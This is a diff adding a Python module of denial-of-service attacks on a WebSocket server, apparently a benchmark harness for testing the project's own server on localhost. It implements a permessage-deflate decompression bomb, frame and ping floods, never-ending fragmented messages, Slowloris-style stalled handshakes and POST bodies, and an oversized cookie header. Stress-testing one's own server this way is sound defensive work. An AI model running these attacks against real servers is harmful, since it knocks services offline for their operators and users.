@@ -1,0 +1,163 @@
+"""What unkind clients do to a WebSocket server, with nothing but sockets.
+
+    python -m benchmarks.attacks burst 8000
+
+attacks the server on that port of this machine until its standard input is closed.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import socket
+import struct
+import sys
+import threading
+import time
+import zlib
+from collections.abc import Callable, Iterator
+
+TEXT, PING, CONTINUATION = 1, 9, 0
+TIME_OUT = 1.0
+"""In seconds: how long a server may take nothing from us, or give us no answer, until we give up."""
+COOKIE_BYTES = 9_000
+
+
+def handshake(port: int, *headers: str, name: str = "Eve") -> bytes:
+    """The request for a WebSocket, with more headers if you like."""
+    lines = [
+        f"GET /ws?name={name}&room=lobby HTTP/1.1",
+        f"Host: 127.0.0.1:{port}",
+        "Upgrade: websocket",
+        "Connection: Upgrade",
+        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
+        "Sec-WebSocket-Version: 13",
+        *headers,
+    ]
+    return "".join(f"{line}\r\n" for line in [*lines, ""]).encode()
+
+
+def frame(opcode: int, payload: bytes = b"", *, last: bool = True, deflated: bool = False) -> bytes:
+    """A frame as a client sends it, masked with zeros."""
+    head = bytes([opcode | last << 7 | deflated << 6])
+    if len(payload) < 126:
+        return head + bytes([0x80 | len(payload)]) + bytes(4) + payload
+    return head + b"\xfe" + struct.pack("!H", len(payload)) + bytes(4) + payload
+
+
+def bomb(size: int = 15 * 2**20) -> bytes:
+    """A text of so many letters, deflated (RFC 7692 §7.2.1)."""
+    deflate = zlib.compressobj(wbits=-15)
+    return (deflate.compress(b"x" * size) + deflate.flush(zlib.Z_SYNC_FLUSH))[:-4]
+
+
+def dial(port: int, request: bytes = b"") -> socket.socket:
+    """Connect, and send the beginning of something."""
+    sock = socket.create_connection(("127.0.0.1", port), timeout=TIME_OUT)
+    sock.sendall(request)
+    return sock
+
+
+def answer(sock: socket.socket) -> str:
+    """The first line of the answer; empty when there is none."""
+    with contextlib.suppress(TimeoutError, ConnectionError):
+        return sock.recv(4096).decode("latin-1").partition("\r\n")[0]
+    return ""
+
+
+def enter(port: int, *headers: str, name: str = "Eve") -> socket.socket:
+    """Join the room, and read no more than the answer to the handshake."""
+    sock = dial(port, handshake(port, *headers, name=name))
+    answer(sock)
+    return sock
+
+
+def again_and_again(port: int, what: Callable[[socket.socket], None]) -> None:
+    """Do something on a connection, and on a new one whenever the server has had enough."""
+    while True:
+        with contextlib.suppress(OSError), enter(port) as sock:
+            what(sock)
+        time.sleep(0.05)
+
+
+def burst(port: int, count: int = 36_000) -> Iterator[socket.socket]:
+    """Very many very small messages at once."""
+    sock = enter(port)
+    with contextlib.suppress(OSError):
+        sock.settimeout(60)
+        sock.sendall(frame(TEXT, b"x") * count)
+    yield sock
+
+
+def inflate(port: int, count: int = 100) -> Iterator[socket.socket]:
+    """Messages that are a thousand times as long as they look, whole ones and unfinished ones."""
+    payload = bomb()
+    for last in (True, False):
+        sock = enter(port, "Sec-WebSocket-Extensions: permessage-deflate")
+        with contextlib.suppress(OSError):
+            for _ in range(count):
+                sock.sendall(frame(TEXT, payload, last=last, deflated=True))
+        yield sock
+
+
+def pieces(port: int, attackers: int = 5) -> Iterator[socket.socket]:
+    """Messages that never end, in pieces without a letter."""
+
+    def talk(sock: socket.socket) -> None:
+        sock.sendall(frame(TEXT, b"x", last=False))
+        while True:
+            sock.sendall(frame(CONTINUATION, last=False) * 10_000)
+
+    for _ in range(attackers):
+        threading.Thread(target=again_and_again, args=(port, talk), daemon=True).start()
+    yield from ()
+
+
+def pongs(port: int) -> Iterator[socket.socket]:
+    """Pings whose answers nobody reads."""
+
+    def talk(sock: socket.socket) -> None:
+        while True:
+            sock.sendall(frame(PING, bytes(125)) * 1000)
+
+    threading.Thread(target=again_and_again, args=(port, talk), daemon=True).start()
+    yield from ()
+
+
+def slow(port: int, count: int = 200) -> Iterator[socket.socket]:
+    """Handshakes that don't come to their end."""
+    for number in range(count):
+        yield dial(port, handshake(port, name=f"Eve-{number}")[:-4])
+
+
+def post(port: int, count: int = 10) -> Iterator[socket.socket]:
+    """Requests whose bodies don't come to their end."""
+    head = f"POST /tell HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: 100\r\n\r\n{{"
+    for _ in range(count):
+        yield dial(port, head.encode())
+
+
+def cookie(port: int) -> Iterator[socket.socket]:
+    """A handshake with all the cookies of this machine; nothing unkind."""
+    sock = dial(port, handshake(port, f"Cookie: c={'a' * COOKIE_BYTES}"))
+    print(answer(sock) or "no answer", flush=True)
+    yield sock
+
+
+ATTACKS: dict[str, Callable[[int], Iterator[socket.socket]]] = {
+    each.__name__: each for each in (burst, inflate, pieces, pongs, slow, post, cookie)
+}
+
+
+def main() -> None:
+    """Attack, and keep every connection until standard input is closed."""
+    name, port = sys.argv[1:]
+    with contextlib.suppress(OSError):  # who is refused has lost
+        kept = list(ATTACKS[name](int(port)))
+        sys.stdin.read()
+        del kept
+    os._exit(0)  # threads, too
+
+
+if __name__ == "__main__":
+    main()
